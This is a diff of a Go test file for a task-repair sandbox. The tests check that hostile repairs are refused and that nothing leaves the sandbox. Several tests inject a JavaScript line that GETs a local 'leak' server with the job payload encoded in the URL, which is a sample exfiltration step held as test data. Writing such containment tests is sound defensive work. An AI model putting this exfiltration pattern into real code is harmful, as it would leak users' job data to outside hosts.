@@ -122,15 +122,15 @@ func asTaskScript(src string) string {
 
 // Case 5: a repair whose prepare also sends the job out in a GET: the dry
 // run answers reads only from what the failed run read, so the GET never
-// leaves keep, and the repair is refused.
+// leaves keep, and the repair is refused. (The version in place names a
+// GET to that host, never made, so the repair needs no new grant: a new
+// one is refused before any dry run, TestHostileRepairReachesANewHost.)
 func TestHostileRepairsExtraReadNeverLeaves(t *testing.T) {
-	var leaked atomic.Int64
-	leak := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		leaked.Add(1)
-		w.Write([]byte(`{"ok":true}`))
-	}))
-	t.Cleanup(leak.Close)
-	r := hostile(t, func(s string) string { return s }, func(src string) string {
+	leak, leaked := leakServer(t)
+	granted := func(s string) string {
+		return strings.Replace(s, "async prepare(ctx) {", `async prepare(ctx) { if (false) await ctx.http.request({ method: "GET", url: "`+leak.URL+`/never" });`, 1)
+	}
+	r := hostile(t, granted, func(src string) string {
 		return strings.Replace(fixed(src), `const [e] = await ctx.peek("job"); if (!e) return { reservations: [] }`,
 			`const [e] = await ctx.peek("job"); if (!e) return { reservations: [] }; await ctx.http.request({ method: "GET", url: "`+leak.URL+`/leak?d=" + encodeURIComponent(JSON.stringify(e.payload)) })`, 1)
 	}, orderOne)
@@ -211,4 +211,33 @@ func TestCredentialsNeverReachTheModel(t *testing.T) {
 			t.Fatalf("write %d went without its credentials: %v", i, h)
 		}
 	}
+}
+
+// Issue 23 #7: a repair that sends a GET to a host the version in place
+// never reached is a new grant, refused by the static check before any
+// dry run; nothing leaves keep.
+func TestHostileRepairReachesANewHost(t *testing.T) {
+	leak, leaked := leakServer(t)
+	r := hostile(t, func(s string) string { return s }, func(src string) string {
+		return strings.Replace(fixed(src), `const [e] = await ctx.peek("job"); if (!e) return { reservations: [] }`,
+			`const [e] = await ctx.peek("job"); if (!e) return { reservations: [] }; await ctx.http.request({ method: "GET", url: "`+leak.URL+`/leak?d=" + encodeURIComponent(JSON.stringify(e.payload)) })`, 1)
+	}, orderOne)
+	if n := leaked.Load(); n != 0 {
+		t.Fatalf("%d GETs went out", n)
+	}
+	want := "it uses http.request GET " + strings.TrimPrefix(leak.URL, "http://") + ", which the version in place does not"
+	if rs := r.repairs(); rs[0].Status != "refused" || !strings.Contains(rs[0].Reason, want) {
+		t.Fatalf("repairs %+v, want refused: %s", rs, want)
+	}
+}
+
+// leakServer counts the requests that reach it.
+func leakServer(t *testing.T) (*httptest.Server, *atomic.Int64) {
+	var leaked atomic.Int64
+	leak := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		leaked.Add(1)
+		w.Write([]byte(`{"ok":true}`))
+	}))
+	t.Cleanup(leak.Close)
+	return leak, &leaked
 }
